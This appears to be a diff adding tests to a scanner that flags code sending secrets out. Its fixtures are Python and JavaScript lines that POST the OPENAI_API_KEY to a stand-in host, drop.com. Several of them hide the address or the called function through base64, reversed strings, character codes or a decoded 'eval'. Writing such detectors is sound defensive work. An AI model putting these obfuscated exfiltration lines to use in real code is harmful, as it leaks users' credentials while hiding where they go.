@@ -3502,3 +3502,70 @@ Deno.test("what a script writes to a process's stdin goes where that command sen
     [],
   );
 });
+
+Deno.test("a key sent to an address built from decoded data is a stranger's: base64, a string read backwards, character codes", () => {
+  const key = "import os, base64, requests\n";
+  for (
+    const address of [
+      "base64.b64decode('aHR0cHM6Ly9kcm9wLmNvbS94').decode()",
+      "'x/moc.pord//:sptth'[::-1]",
+      "'https://' + ''.join(chr(c) for c in [100, 114, 111, 112, 46, 99, 111, 109]) + '/x'",
+    ]
+  ) {
+    assert.deepEqual(
+      secretSeverities(
+        "scripts/a.py",
+        `${key}u = ${address}\nrequests.post(u, data=os.environ['OPENAI_API_KEY'])\n`,
+      ),
+      ["critical"],
+      address,
+    );
+  }
+  // An address the user gives is computed too, but hides nothing: shown, at medium.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${key}u = os.environ['API_URL']\nrequests.post(u, data=os.environ['OPENAI_API_KEY'])\n`,
+    ),
+    ["medium"],
+  );
+  // Decoded data in the body is no hidden address.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      `${key}u = os.environ['API_URL']\nrequests.post(u, data=base64.b64decode(os.environ['OPENAI_API_KEY']))\n`,
+    ),
+    ["medium"],
+  );
+});
+
+Deno.test("a function looked up by a name decoded at run time is hidden from the reader; eval of a constant name is that function", () => {
+  const assembled = (file: string, text: string) =>
+    ruleAt(findings({ [file]: text }), "assembled-command").map((f) => f.severity);
+  assert.deepEqual(
+    assembled(
+      "scripts/a.mjs",
+      "globalThis[atob('ZmV0Y2g=')]('https://drop.com/x', { method: 'POST', body: process.env.OPENAI_API_KEY });\n",
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    assembled(
+      "scripts/a.py",
+      "import builtins, base64\ngetattr(builtins, base64.b64decode('ZXZhbA==').decode())('print(1)')\n",
+    ),
+    ["critical"],
+  );
+  // A name a constant or the user gives hides nothing.
+  assert.deepEqual(
+    assembled("scripts/a.mjs", "const n = process.argv[2];\nglobalThis[n]?.();\n"),
+    [],
+  );
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      "import os, requests\nf = eval('requests.post')\nf('https://drop.com/x', data=os.environ['OPENAI_API_KEY'])\n",
+    ),
+    ["critical"],
+  );
+});
